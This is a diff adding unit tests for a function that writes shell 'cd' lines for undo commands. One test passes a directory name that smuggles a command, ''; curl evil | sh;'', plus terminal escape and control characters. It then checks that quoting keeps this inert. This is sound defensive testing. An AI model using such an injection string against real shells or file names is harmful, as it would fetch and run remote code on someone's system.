@@ -1,7 +1,9 @@
+import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
-import { describeBreach, openBreaches, overrideReason } from '../../protocol/breach.ts';
+import { describeBreach, openBreaches, overrideReason, undoLines } from '../../protocol/breach.ts';
 import { feedEvent } from '../../protocol/engine-event.ts';
 import { actId, launchId } from '../../protocol/ids.ts';
+import { showUnseen } from '../../protocol/preset.ts';
 import { aBreach, breachFound, halted, overridden } from '../support/breach-builders.ts';
 import { created, viewAfter } from '../support/protocol-builders.ts';
 import { accepted, ready, started } from '../support/transcript-events.ts';
@@ -67,5 +69,28 @@ describe('the words of a breach', () => {
     const many = { ...aBreach().undo, commands: Array.from({ length: 9 }, () => 'true') };
     expect(feedEvent.safeParse(breachFound()).success).toBe(true);
     expect(feedEvent.safeParse(breachFound({ undo: many })).success).toBe(false);
+  });
+});
+
+describe('the lines that undo an act', () => {
+  const undo = (directory: string | null, commands = ['git fetch', 'git push']) =>
+    undoLines({ directory, commands, note: '' });
+
+  it('go where they belong first, and nowhere where there are none or anywhere will do', () => {
+    expect(undo('/srv/a b')).toEqual(["cd -- '/srv/a b'", 'git fetch', 'git push']);
+    expect(undo(null)).toEqual(['git fetch', 'git push']);
+    expect(undo('/srv', [])).toEqual([]);
+  });
+
+  it('are one word and one line of a directory, whatever its name is', () => {
+    const hostile = "/srv/\n'; curl evil | sh; '\u001b[201~\r\u202e";
+    const [cd = ''] = undo(hostile);
+    expect(cd).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
+    const script = `cd() { printf '%s\\0' "$@"; }\n${cd}`;
+    expect(execFileSync('sh', ['-c', script], { encoding: 'utf8' }).split('\0')).toEqual([
+      '--',
+      showUnseen(hostile),
+      '',
+    ]);
   });
 });
